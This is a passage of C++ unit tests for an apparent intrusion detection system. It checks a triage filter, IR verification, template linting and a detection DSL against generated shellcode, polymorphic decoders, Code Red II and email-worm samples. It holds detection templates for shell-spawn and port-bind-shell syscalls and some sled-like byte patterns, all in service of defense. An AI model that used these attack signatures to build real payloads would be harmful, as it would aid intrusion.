  // Coincidental code evidence in 1 KB of uniform bytes is rare (~2%
  // per sample); the overwhelming majority must be rejected.
  EXPECT_GE(rejected, kSamples - 4);
}

TEST(Triage, ForceEscalateScreensNothingOut) {
  TriageOptions options;
  options.mode = TriageMode::kForceEscalate;
  const TriageFilter f = make_filter(std::move(options));
  for (ByteView payload : {ByteView{}, ByteView{util::as_bytes("plain text")}}) {
    const TriageDecision d = f.screen(payload);
    EXPECT_TRUE(d.escalate);
    EXPECT_EQ(reason(d), "forced");
  }
}

TEST(Triage, ExtractAllDisablesRejection) {
  // Extractor bypass mode frames every payload whole, so nothing can be
  // proven frame-free and the screen must escalate everything.
  extract::ExtractorOptions extractor;
  extractor.extract_all = true;
  const TriageFilter f = make_filter(on_options(), extractor);
  const TriageDecision d = f.screen(util::as_bytes("plain text"));
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "extract-all");
}

// -------------------------------------------------------- PAYL spectrum

TEST(Triage, SpectrumAnomalyEscalates) {
  // Train a PAYL model on text-like payloads, then screen a payload with
  // a wildly different byte spectrum but no frame evidence at all: only
  // the spectrum probe can (and must) escalate it.
  auto payl = std::make_shared<anomaly::PaylDetector>(
      anomaly::PaylDetector::Options{.threshold = 16.0, .bucket_by_length = true});
  util::Prng prng(9);
  for (int i = 0; i < 16; ++i) {
    Bytes sample;
    for (int j = 0; j < 160; ++j) {
      sample.push_back(static_cast<std::uint8_t>('a' + prng.below(26)));
    }
    payl->train(sample, 80);
  }

  // Punctuation with no 4-byte period (a periodic pattern would read as
  // a repeated return-address dword), no '%', no base64 alphabet, no
  // NOP-like bytes, no long identical runs.
  static constexpr char kPunct[] = {'!', '#', '&', '(', ')', '*', ',', '-',
                                    '.', ':', ';', '<', '>', '?', '{', '}'};
  util::Prng punct_prng(17);
  Bytes odd;
  for (int i = 0; i < 160; ++i) {
    odd.push_back(static_cast<std::uint8_t>(kPunct[punct_prng.below(std::size(kPunct))]));
  }

  // Without a model the payload is provably frame-free.
  const TriageFilter plain = make_filter();
  EXPECT_EQ(reason(plain.screen(odd, 80)), "no-frames-possible");

  TriageOptions options;
  options.mode = TriageMode::kOn;
  options.spectrum = payl;
  const TriageFilter f = make_filter(std::move(options));
  const TriageDecision d = f.screen(odd, 80);
  EXPECT_TRUE(d.escalate);
  EXPECT_EQ(reason(d), "spectrum-anomaly");
  // An untrained port cell scores 0: the model stays silent and the
  // frame-free rejection resumes.
  EXPECT_EQ(reason(f.screen(odd, 8080)), "no-frames-possible");
}

TEST(Triage, ByteSpectrumSharedPrimitive) {
  // The triage spectrum screen and PAYL share one frequency routine.
  const auto spec = anomaly::byte_spectrum(util::as_bytes("aab"));
  EXPECT_DOUBLE_EQ(spec['a'], 2.0 / 3.0);
  EXPECT_DOUBLE_EQ(spec['b'], 1.0 / 3.0);
  EXPECT_DOUBLE_EQ(spec['c'], 0.0);
  const auto empty = anomaly::byte_spectrum({});
  for (double v : empty) EXPECT_EQ(v, 0.0);
}

// ------------------------------------------------- corpus guarantees

TEST(Triage, EveryAttackCorpusEscalates) {
  const TriageFilter f = make_filter();
  util::Prng prng(123);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (const auto& sample : corpus) {
    EXPECT_TRUE(f.screen(sample.code).escalate) << sample.name;
  }
  for (std::size_t i = 0; i < 16; ++i) {
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, prng);
    EXPECT_TRUE(f.screen(adm.bytes).escalate) << "admmutate " << i;
    const auto clet = gen::clet_encode(corpus[i % corpus.size()].code, prng);
    EXPECT_TRUE(f.screen(clet.bytes).escalate) << "clet " << i;
  }
  EXPECT_TRUE(f.screen(gen::make_code_red_ii_request()).escalate);
  for (std::size_t i = 0; i < 8; ++i) {
    const auto worm = gen::make_email_worm(prng);
    EXPECT_TRUE(f.screen(worm.smtp_payload).escalate) << "mailworm " << i;
  }
}

TEST(Triage, BenignEscalationUnderTenPercent) {
  const TriageFilter f = make_filter();
  util::Prng prng(31337);
  constexpr std::size_t kSamples = 400;
  std::size_t escalated = 0;
  for (std::size_t i = 0; i < kSamples; ++i) {
    const auto p = gen::make_benign_payload(prng);
    if (f.screen(p.data, p.dst_port).escalate) ++escalated;
  }
  EXPECT_LT(escalated * 10, kSamples) << escalated << "/" << kSamples << " escalated";
}

TEST(Triage, SuspiciousBenignEscalatesWithoutAlerts) {
  // The escalate-on-doubt payloads: sled-lookalike ASCII banners must
  // escalate (a sled frame is possible), and none of the suspicious
  // kinds may ever produce an alert once fully analyzed.
  const TriageFilter f = make_filter();
  util::Prng prng(55);
  gen::TraceBuilder tb(55);
  const net::Endpoint client{net::Ipv4Addr::from_octets(198, 51, 100, 9), 40000};
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);
  std::size_t sleds = 0;
  for (int i = 0; i < 48; ++i) {
    const auto p = gen::make_suspicious_benign_payload(prng);
    if (p.kind == gen::BenignKind::kAsciiSledLookalike) {
      ++sleds;
      const TriageDecision d = f.screen(p.data, p.dst_port);
      EXPECT_TRUE(d.escalate);
      // A banner shorter than min_repetition reads as a NOP-like sled; a
      // longer one is caught earlier as an overflow-filler run. Either
      // way it must escalate on a run probe, not slip to rejection.
      EXPECT_TRUE(reason(d) == "nop-sled" || reason(d) == "repetition-run") << reason(d);
    }
    tb.add_benign(client, server, p);
  }
  EXPECT_GT(sleds, 0u);

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.triage.mode = TriageMode::kOn;
  core::NidsEngine nids(options);
  const core::Report report = nids.process_capture(tb.take());
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_GT(report.stats.triage_escalated, 0u);
}

// -------------------------------------------------- engine agreement

TEST(Triage, EngineCountersAgree) {
  gen::TraceBuilder tb(88);
  const net::Endpoint client{net::Ipv4Addr::from_octets(198, 51, 100, 9), 40000};
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 4; ++i) {
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(client, net::Endpoint{server, 80}, adm.bytes);
  }
  for (int i = 0; i < 24; ++i) tb.add_benign(client, server, gen::make_benign_payload(tb.prng()));
  const pcap::Capture capture = tb.take();

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.triage.mode = TriageMode::kOn;
  options.verdict_cache_bytes = 4u << 20;
  core::NidsEngine nids(options);
  ASSERT_NE(nids.triage_filter(), nullptr);
  const core::Report report = nids.process_capture(capture);
  const core::NidsStats& s = report.stats;

  // Every unit is screened; every screened unit is exactly one of
  // escalated / rejected.
  EXPECT_EQ(s.triage_screened, s.units_analyzed);
  EXPECT_EQ(s.triage_screened, s.triage_escalated + s.triage_rejected);
  EXPECT_GT(s.triage_rejected, 0u);
  EXPECT_GT(s.triage_escalated, 0u);
  // Rejected units never reach the verdict cache.
  EXPECT_EQ(s.cache_hits + s.cache_misses + s.cache_bypass,
            s.units_analyzed - s.triage_rejected);
  // The attacks still alert (ADMmutate decoders match the decryption-
  // loop template without needing emulation).
  EXPECT_FALSE(report.alerts.empty());
}

TEST(Triage, EngineOffModeTouchesNoCounters) {
  gen::TraceBuilder tb(89);
  const net::Endpoint client{net::Ipv4Addr::from_octets(198, 51, 100, 9), 40000};
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);
  for (int i = 0; i < 8; ++i) tb.add_benign(client, server, gen::make_benign_payload(tb.prng()));

  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine nids(options);
  EXPECT_EQ(nids.triage_filter(), nullptr);
  const core::Report report = nids.process_capture(tb.take());
  EXPECT_EQ(report.stats.triage_screened, 0u);
  EXPECT_EQ(report.stats.triage_escalated, 0u);
  EXPECT_EQ(report.stats.triage_rejected, 0u);
}

TEST(Triage, ReportRendersTierTable) {
  gen::TraceBuilder tb(90);
  const net::Endpoint client{net::Ipv4Addr::from_octets(198, 51, 100, 9), 40000};
  const net::Ipv4Addr server = net::Ipv4Addr::from_octets(10, 0, 0, 20);
  for (int i = 0; i < 8; ++i) tb.add_benign(client, server, gen::make_benign_payload(tb.prng()));

  const pcap::Capture capture = tb.take();
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.triage.mode = TriageMode::kOn;
  core::NidsEngine nids(options);
  const std::string rendered = nids.process_capture(capture).str();
  EXPECT_NE(rendered.find("triage tiers"), std::string::npos);
  EXPECT_NE(rendered.find("stage-0 rejected"), std::string::npos);
  EXPECT_NE(rendered.find("escalated"), std::string::npos);

  // A triage-off run renders no tier table.
  core::NidsOptions off;
  off.classifier.analyze_everything = true;
  core::NidsEngine nids_off(off);
  EXPECT_EQ(nids_off.process_capture(capture).str().find("triage tiers"),
            std::string::npos);
}

// ------------------------------------------------- SIMD/scalar equivalence

TEST(Triage, SimdAndScalarScansAgree) {
  // The stage-0 scan has an AVX2 block path (dispatched at runtime) and
  // a scalar fallback used for prologue, tail, short payloads, and
  // non-x86 builds. Every figure the screen consumes must be identical
  // between the two over adversarially mixed inputs: random bytes,
  // generator traffic, and payloads sized to straddle the 96-byte SIMD
  // threshold and the 32-byte block boundaries.
  util::Prng prng(2024);
  std::vector<Bytes> inputs;
  for (std::size_t n : {0u, 1u, 31u, 32u, 33u, 95u, 96u, 97u, 127u, 128u, 129u, 4096u}) {
    Bytes r(n);
    for (auto& b : r) b = static_cast<std::uint8_t>(prng.below(256));
    inputs.push_back(std::move(r));
  }
  for (int i = 0; i < 200; ++i) {
    inputs.push_back(gen::make_benign_payload(prng).data);
  }
  for (int i = 0; i < 8; ++i) {
    inputs.push_back(gen::make_email_worm(prng).smtp_payload);
    inputs.push_back(gen::make_suspicious_benign_payload(prng).data);
  }
  // Runs crossing block boundaries: sleds, filler, base64 of every phase.
  for (std::size_t off : {0u, 7u, 30u, 31u, 32u, 33u, 63u}) {
    Bytes p(off, std::uint8_t{'.'});
    p.insert(p.end(), 40, std::uint8_t{0x90});
    p.insert(p.end(), 50, std::uint8_t{0xCC});
    for (int k = 0; k < 100; ++k) p.push_back("ABCDabcd0123+/="[k % 15]);
    p.push_back('%');
    p.push_back(0xE8);
    inputs.push_back(std::move(p));
  }
  for (const Bytes& payload : inputs) {
    const detail::ScanProfile simd = detail::scan_profile(payload, true);
    const detail::ScanProfile scalar = detail::scan_profile(payload, false);
    EXPECT_EQ(simd.rep_len, scalar.rep_len) << payload.size();
    EXPECT_EQ(simd.rep_end, scalar.rep_end) << payload.size();
    EXPECT_EQ(simd.sled_len, scalar.sled_len) << payload.size();
    EXPECT_EQ(simd.b64_len, scalar.b64_len) << payload.size();
    EXPECT_EQ(simd.binary_len, scalar.binary_len) << payload.size();
    EXPECT_EQ(simd.percent, scalar.percent) << payload.size();
    EXPECT_EQ(simd.getpc_lead, scalar.getpc_lead) << payload.size();
  }
}

}  // namespace
}  // namespace senids::triage
