// Tests for senids::verify — the three static-analysis passes.
// Positive cases: real corpus traces lift to clean IR, the shipped
// template library lints clean, and the decoder/def-use tables are
// consistent. Negative cases: hand-built malformed IR, templates with an
// undefined variable / unsatisfiable clauses, and deliberately
// inconsistent def/use summaries — each must fail with its own
// diagnostic (checked by message, not just by failure).
#include <gtest/gtest.h>

#include <fstream>
#include <sstream>

#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "ir/lifter.hpp"
#include "semantic/dsl.hpp"
#include "semantic/library.hpp"
#include "util/prng.hpp"
#include "verify/ir_verify.hpp"
#include "verify/lint.hpp"
#include "verify/table_check.hpp"
#include "arch/decoder.hpp"
#include "arch/scan.hpp"

namespace senids {
namespace {

using semantic::p_any;
using semantic::p_bin;
using semantic::p_const;
using semantic::p_fixed;
using semantic::p_load;
using semantic::st_advance;
using semantic::st_branch_back;
using semantic::st_decode_store;
using semantic::st_mem_write;
using semantic::Template;

// ------------------------------------------------------------- positives

void expect_clean_ir(util::ByteView code, const std::string& label) {
  auto runs = arch::find_code_runs(code, 4);
  // Verify from the frame start and from every candidate run: the same
  // entries the analyzer would lift.
  std::vector<std::size_t> entries{0};
  for (const auto& run : runs) entries.push_back(run.start);
  for (std::size_t entry : entries) {
    auto trace = arch::execution_trace(code, entry, 4096);
    if (trace.empty()) continue;
    ir::LiftResult lifted = ir::lift(trace);
    verify::Report r = verify::verify_ir(trace, lifted);
    EXPECT_TRUE(r.ok()) << label << " entry " << entry << ":\n" << r.str();
  }
}

TEST(IrVerify, ShellSpawnCorpusLiftsClean) {
  for (const auto& sample : gen::make_shell_spawn_corpus()) {
    expect_clean_ir(sample.code, sample.name);
  }
}

TEST(IrVerify, PolymorphicDecodersLiftClean) {
  const util::Bytes payload = gen::make_shell_spawn_corpus()[0].code;
  for (std::uint64_t seed = 1; seed <= 8; ++seed) {
    util::Prng prng(seed);
    auto adm = gen::admmutate_encode(payload, prng);
    expect_clean_ir(adm.bytes, "admmutate seed " + std::to_string(seed));
    auto clet = gen::clet_encode(payload, prng);
    expect_clean_ir(clet.bytes, "clet seed " + std::to_string(seed));
  }
}

TEST(IrVerify, FnstenvDecoderLiftsClean) {
  expect_clean_ir(gen::make_fnstenv_decoder_payload(), "fnstenv decoder");
  expect_clean_ir(gen::make_iis_asp_overflow_payload(), "iis-asp overflow");
}

TEST(Lint, ShippedTemplateFileIsClean) {
  std::ifstream in(SENIDS_SOURCE_DIR "/templates/standard.tmpl", std::ios::binary);
  ASSERT_TRUE(in) << "cannot open templates/standard.tmpl";
  std::ostringstream buf;
  buf << in.rdbuf();
  auto parsed = semantic::parse_templates(buf.str());
  auto* templates = std::get_if<std::vector<Template>>(&parsed);
  ASSERT_NE(templates, nullptr);
  EXPECT_FALSE(templates->empty());
  verify::Report r = verify::lint_templates(*templates);
  EXPECT_TRUE(r.ok()) << r.str();
  EXPECT_EQ(r.warnings(), 0u) << r.str();
}

TEST(Lint, BuiltinLibrariesAreClean) {
  for (const auto& lib :
       {semantic::make_standard_library(), semantic::make_extended_library()}) {
    verify::Report r = verify::lint_templates(lib);
    EXPECT_TRUE(r.ok()) << r.str();
    EXPECT_EQ(r.warnings(), 0u) << r.str();
  }
}

TEST(TableCheck, DecoderAndDefUseTablesConsistent) {
  verify::Report r = verify::verify_decoder_tables();
  EXPECT_TRUE(r.ok()) << r.str();
}

// ---------------------------------------------------- malformed IR cases

/// mov eax, ebx ; inc eax — two instructions, two reg-write events.
std::vector<arch::Instruction> tiny_trace() {
  static const std::uint8_t kCode[] = {0x89, 0xD8, 0x40};
  auto trace = arch::linear_sweep(kCode, 0);
  EXPECT_EQ(trace.size(), 2u);
  return trace;
}

TEST(IrVerify, CleanTinyTracePasses) {
  auto trace = tiny_trace();
  ir::LiftResult lifted = ir::lift(trace);
  EXPECT_TRUE(verify::verify_ir(trace, lifted).ok());
}

TEST(IrVerify, FlagsDanglingEventIndex) {
  auto trace = tiny_trace();
  ir::LiftResult lifted = ir::lift(trace);
  ASSERT_FALSE(lifted.events.empty());
  lifted.events[0].insn_index = 7;
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("dangling insn_index")) << r.str();
}

TEST(IrVerify, FlagsMismatchedEventOffset) {
  auto trace = tiny_trace();
  ir::LiftResult lifted = ir::lift(trace);
  ASSERT_FALSE(lifted.events.empty());
  lifted.events[0].insn_offset += 1;
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("does not match trace instruction")) << r.str();
}

TEST(IrVerify, FlagsNullStoredValue) {
  auto trace = tiny_trace();
  ir::LiftResult lifted;
  ir::Event ev;
  ev.kind = ir::EventKind::kMemWrite;
  ev.insn_index = 0;
  ev.insn_offset = 0;
  ev.addr = ir::mk_const(0x1000);
  ev.value = nullptr;
  ev.width = 8;
  lifted.events.push_back(ev);
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("null stored value")) << r.str();
}

TEST(IrVerify, FlagsImpossibleStoreWidth) {
  auto trace = tiny_trace();
  ir::LiftResult lifted;
  ir::Event ev;
  ev.kind = ir::EventKind::kMemWrite;
  ev.insn_index = 0;
  ev.insn_offset = 0;
  ev.addr = ir::mk_const(0x1000);
  ev.value = ir::mk_const(0x41);
  ev.width = 24;
  lifted.events.push_back(ev);
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("not a decodable access width")) << r.str();
}

TEST(IrVerify, FlagsBinaryNodeMissingOperand) {
  auto trace = tiny_trace();
  auto broken = std::make_shared<ir::Expr>();
  broken->kind = ir::ExprKind::kBin;
  broken->bop = ir::BinOp::kXor;
  broken->lhs = ir::mk_const(1);
  broken->rhs = nullptr;
  ir::LiftResult lifted;
  ir::Event ev;
  ev.kind = ir::EventKind::kRegWrite;
  ev.insn_index = 0;
  ev.insn_offset = 0;
  ev.reg = arch::RegFamily::kAx;
  ev.value = broken;
  lifted.events.push_back(ev);
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("binary expression missing an operand")) << r.str();
}

TEST(IrVerify, FlagsStaleCachedHash) {
  auto trace = tiny_trace();
  auto node = std::make_shared<ir::Expr>();
  node->kind = ir::ExprKind::kConst;
  node->cval = 0x41;
  node->value_bits = 7;
  node->cached_hash = 12345;  // not what the factories compute
  ir::LiftResult lifted;
  ir::Event ev;
  ev.kind = ir::EventKind::kRegWrite;
  ev.insn_index = 0;
  ev.insn_offset = 0;
  ev.reg = arch::RegFamily::kAx;
  ev.value = node;
  lifted.events.push_back(ev);
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("cached hash is stale")) << r.str();
}

TEST(IrVerify, FlagsLoadFromFutureGeneration) {
  auto trace = tiny_trace();
  ir::LiftResult lifted;
  ir::Event ev;
  ev.kind = ir::EventKind::kRegWrite;
  ev.insn_index = 0;
  ev.insn_offset = 0;
  ev.reg = arch::RegFamily::kAx;
  ev.value = ir::mk_load(ir::mk_const(0x1000), 8, /*generation=*/5);
  lifted.events.push_back(ev);
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("use before def")) << r.str();
}

TEST(IrVerify, FlagsEventOrderRegression) {
  auto trace = tiny_trace();
  ir::LiftResult lifted = ir::lift(trace);
  ASSERT_GE(lifted.events.size(), 2u);
  std::swap(lifted.events.front(), lifted.events.back());
  verify::Report r = verify::verify_ir(trace, lifted);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("regress in trace order")) << r.str();
}

// ------------------------------------------------------------ lint cases

TEST(Lint, FlagsUndefinedAdvanceVariable) {
  Template t;
  t.name = "broken-advance";
  t.stmts.push_back(st_decode_store(p_any("A"),
                                    p_bin(ir::BinOp::kXor, p_load(p_any("A")),
                                          p_const("K"))));
  t.stmts.push_back(st_advance("Z"));
  verify::Report r = verify::lint_templates({t});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("undefined variable 'Z'")) << r.str();
}

TEST(Lint, FlagsUnsatisfiableInvertibleClause) {
  Template t;
  t.name = "constant-decode";
  t.stmts.push_back(st_decode_store(p_any("A"), p_fixed(0x41)));
  verify::Report r = verify::lint_templates({t});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("never invertible")) << r.str();
}

TEST(Lint, FlagsConstantWiderThanStore) {
  Template t;
  t.name = "wide-const";
  t.stmts.push_back(st_mem_write(p_any(), p_fixed(0x12345), /*width_bits=*/8));
  verify::Report r = verify::lint_templates({t});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("cannot fit in a 8-bit store")) << r.str();
}

TEST(Lint, FlagsImpossibleStoreWidth) {
  Template t;
  t.name = "odd-width";
  t.stmts.push_back(st_mem_write(p_any(), p_any(), /*width_bits=*/24));
  verify::Report r = verify::lint_templates({t});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("no decodable x86_32 instruction produces a 24-bit store"))
      << r.str();
}

TEST(Lint, FlagsDuplicateName) {
  Template a;
  a.name = "same-name";
  a.stmts.push_back(st_mem_write(p_any(), p_fixed(1)));
  Template b;
  b.name = "same-name";
  b.stmts.push_back(semantic::st_syscall(0x0b));
  verify::Report r = verify::lint_templates({a, b});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("duplicate template name")) << r.str();
}

TEST(Lint, FlagsAlphaRenamedStructuralDuplicate) {
  // Same statements, different variable names: still a duplicate.
  Template a;
  a.name = "first";
  a.stmts.push_back(st_decode_store(p_any("A"),
                                    p_bin(ir::BinOp::kXor, p_load(p_any("A")),
                                          p_const("K"))));
  a.stmts.push_back(st_advance("A"));
  Template b = a;
  b.name = "second";
  b.stmts.clear();
  b.stmts.push_back(st_decode_store(p_any("P"),
                                    p_bin(ir::BinOp::kXor, p_load(p_any("P")),
                                          p_const("Q"))));
  b.stmts.push_back(st_advance("P"));
  verify::Report r = verify::lint_templates({a, b});
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("structurally identical")) << r.str();
}

TEST(Lint, WarnsOnPrefixShadowing) {
  Template longer;
  longer.name = "specific";
  longer.stmts.push_back(semantic::st_socketcall(1));
  longer.stmts.push_back(semantic::st_socketcall(2));
  Template prefix;
  prefix.name = "general";
  prefix.stmts.push_back(semantic::st_socketcall(1));
  verify::Report r = verify::lint_templates({longer, prefix});
  EXPECT_TRUE(r.ok());  // a warning, not an error
  EXPECT_GT(r.warnings(), 0u);
  EXPECT_TRUE(r.mentions("strict prefix")) << r.str();
}

TEST(Lint, WarnsOnBareLoopback) {
  Template t;
  t.name = "bare-loop";
  t.stmts.push_back(st_branch_back());
  verify::Report r = verify::lint_templates({t});
  EXPECT_TRUE(r.ok());
  EXPECT_TRUE(r.mentions("loop-back with no body statements")) << r.str();
}

TEST(Lint, FlagsUnsatisfiableDecodeParsedFromDsl) {
  // The DSL parser accepts this form; only the linter can see that a
  // constant stored value can never be an invertible function.
  const char* doc =
      "template const-decode : decryption-loop {\n"
      "  decode *A = 0x41\n"
      "  advance A\n"
      "  loopback\n"
      "}\n";
  auto parsed = semantic::parse_templates(doc);
  auto* templates = std::get_if<std::vector<Template>>(&parsed);
  ASSERT_NE(templates, nullptr);
  verify::Report r = verify::lint_templates(*templates);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("never invertible")) << r.str();
}

// ----------------------------------------------------- table-check cases

TEST(TableCheck, FlagsDefUseEntryWithoutOperand) {
  // mov eax, ebx — but the summary claims to read esi.
  const std::uint8_t kMov[] = {0x89, 0xD8};
  const arch::Instruction insn = arch::decode(kMov, 0);
  ASSERT_TRUE(insn.valid());
  arch::DefUse du = arch::def_use(insn);
  du.uses.add_family(arch::RegFamily::kSi);
  verify::Report r = verify::check_defuse(insn, du);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("no decoded operand or implicit register")) << r.str();
}

TEST(TableCheck, FlagsOperandMissingFromSummary) {
  const std::uint8_t kMov[] = {0x89, 0xD8};
  const arch::Instruction insn = arch::decode(kMov, 0);
  ASSERT_TRUE(insn.valid());
  arch::DefUse du;  // empty summary: both operands unreferenced
  verify::Report r = verify::check_defuse(insn, du);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("not referenced by the def/use summary")) << r.str();
}

TEST(TableCheck, FlagsPhantomMemoryAccess) {
  const std::uint8_t kMov[] = {0x89, 0xD8};
  const arch::Instruction insn = arch::decode(kMov, 0);
  arch::DefUse du = arch::def_use(insn);
  du.mem_read = true;  // no memory operand, no implicit memory
  verify::Report r = verify::check_defuse(insn, du);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("no memory operand")) << r.str();
}

TEST(TableCheck, FlagsPhantomFlagKill) {
  const std::uint8_t kMov[] = {0x89, 0xD8};
  const arch::Instruction insn = arch::decode(kMov, 0);
  arch::DefUse du = arch::def_use(insn);
  du.flags_def = true;  // mov never writes flags
  verify::Report r = verify::check_defuse(insn, du);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("pure data movement")) << r.str();
}

TEST(TableCheck, FlagsRepStringWithoutCounter) {
  // rep movsd with a summary lacking the ecx counter.
  const std::uint8_t kRepMovs[] = {0xF3, 0xA5};
  const arch::Instruction insn = arch::decode(kRepMovs, 0);
  ASSERT_TRUE(insn.valid());
  ASSERT_TRUE(insn.prefixes.rep);
  arch::DefUse du = arch::def_use(insn);
  EXPECT_TRUE(verify::check_defuse(insn, du).ok());  // fixed summary is clean
  arch::DefUse broken;
  broken.uses.add_family(arch::RegFamily::kSi);
  broken.uses.add_family(arch::RegFamily::kDi);
  broken.defs.add_family(arch::RegFamily::kSi);
  broken.defs.add_family(arch::RegFamily::kDi);
  broken.mem_read = true;
  broken.mem_write = true;
  verify::Report r = verify::check_defuse(insn, broken);
  EXPECT_FALSE(r.ok());
  EXPECT_TRUE(r.mentions("repeat counter")) << r.str();
}

// -------------------------------------------------- regression: rep ecx

TEST(TableCheck, RepStringOpsCountEcx) {
  // Regression for the def/use bug the cross-check surfaced: rep string
  // forms must read and write ecx.
  const std::uint8_t kRepStos[] = {0xF3, 0xAA};
  const arch::Instruction insn = arch::decode(kRepStos, 0);
  ASSERT_TRUE(insn.valid());
  const arch::DefUse du = arch::def_use(insn);
  EXPECT_TRUE(du.uses.contains_family(arch::RegFamily::kCx));
  EXPECT_TRUE(du.defs.contains_family(arch::RegFamily::kCx));
}

}  // namespace
}  // namespace senids
