#include <gtest/gtest.h>

#include "semantic/dsl.hpp"

namespace senids::semantic {
namespace {

std::vector<Template> parse_ok(std::string_view text) {
  auto result = parse_templates(text);
  if (auto* err = std::get_if<ParseError>(&result)) {
    ADD_FAILURE() << "parse error at line " << err->line << ": " << err->message;
    return {};
  }
  return std::get<std::vector<Template>>(result);
}

ParseError parse_err(std::string_view text) {
  auto result = parse_templates(text);
  if (std::holds_alternative<std::vector<Template>>(result)) {
    ADD_FAILURE() << "expected a parse error";
    return {};
  }
  return std::get<ParseError>(result);
}

TEST(Dsl, ParsesXorDecryptTemplate) {
  auto templates = parse_ok(R"(
    # the canonical decoder template
    template xor-decrypt : decryption-loop {
      store *A = xor(load(*A), K)
      advance A
      loopback
    }
  )");
  ASSERT_EQ(templates.size(), 1u);
  const Template& t = templates[0];
  EXPECT_EQ(t.name, "xor-decrypt");
  EXPECT_EQ(t.threat, ThreatClass::kDecryptionLoop);
  ASSERT_EQ(t.stmts.size(), 3u);
  EXPECT_EQ(t.stmts[0].kind, Stmt::Kind::kMemWrite);
  EXPECT_EQ(t.stmts[1].kind, Stmt::Kind::kAdvance);
  EXPECT_EQ(t.stmts[1].ref_var, "A");
  EXPECT_EQ(t.stmts[2].kind, Stmt::Kind::kBranchBack);
}

TEST(Dsl, ParsesSyscallModifiers) {
  auto templates = parse_ok(R"(
    template bind : port-bind-shell {
      syscall 0x66 sub 1
      syscall 0x66 sub 2
      syscall 0x0b path "/bin"
    }
  )");
  ASSERT_EQ(templates.size(), 1u);
  const auto& stmts = templates[0].stmts;
  ASSERT_EQ(stmts.size(), 3u);
  EXPECT_EQ(stmts[0].sysno.value(), 0x66);
  EXPECT_EQ(stmts[0].ebx_low.value(), 1);
  EXPECT_EQ(stmts[1].ebx_low.value(), 2);
  EXPECT_EQ(stmts[2].sysno.value(), 0x0b);
  EXPECT_EQ(stmts[2].ebx_points_to, "/bin");
}

TEST(Dsl, ParsesTransformPattern) {
  auto templates = parse_ok(R"(
    template alt : decryption-loop {
      store *A = transform(load(*A); or, and, not)
      advance A
      loopback
    }
  )");
  ASSERT_EQ(templates.size(), 1u);
  const auto& stmt = templates[0].stmts[0];
  ASSERT_EQ(stmt.value->kind, PatKind::kTransform);
  EXPECT_EQ(stmt.value->allowed.size(), 2u);
  EXPECT_TRUE(stmt.value->allow_not);
}

TEST(Dsl, ParsesFixedConstAndRegwrite) {
  auto templates = parse_ok(R"(
    template crii : code-red-ii {
      store * = 0x7801cbd3
      regwrite add(*X, C)
    }
  )");
  ASSERT_EQ(templates.size(), 1u);
  const auto& s0 = templates[0].stmts[0];
  ASSERT_EQ(s0.value->kind, PatKind::kFixedConst);
  EXPECT_EQ(s0.value->fixed, 0x7801cbd3u);
  EXPECT_EQ(templates[0].stmts[1].kind, Stmt::Kind::kRegWrite);
}

TEST(Dsl, ParsesMultipleTemplates) {
  auto templates = parse_ok(R"(
    template a { loopback }
    template b : shell-spawn { syscall 11 }
  )");
  ASSERT_EQ(templates.size(), 2u);
  EXPECT_EQ(templates[0].threat, ThreatClass::kCustom);
  EXPECT_EQ(templates[1].threat, ThreatClass::kShellSpawn);
  EXPECT_EQ(templates[1].stmts[0].sysno.value(), 11);
}

TEST(Dsl, ParsesDecimalAndHexNumbers) {
  auto templates = parse_ok("template t { syscall 11 }\ntemplate u { syscall 0x0b }");
  EXPECT_EQ(templates[0].stmts[0].sysno.value(), templates[1].stmts[0].sysno.value());
}

TEST(Dsl, EmptyInputYieldsNoTemplates) {
  EXPECT_TRUE(parse_ok("  # only a comment\n").empty());
}

TEST(Dsl, ErrorOnMissingBrace) {
  ParseError e = parse_err("template t  syscall 11 }");
  EXPECT_NE(e.message.find("'{'"), std::string::npos);
}

TEST(Dsl, ErrorOnUnknownStatement) {
  ParseError e = parse_err("template t { frobnicate }");
  EXPECT_NE(e.message.find("frobnicate"), std::string::npos);
}

TEST(Dsl, ErrorOnUnknownThreatClass) {
  ParseError e = parse_err("template t : nonsense { loopback }");
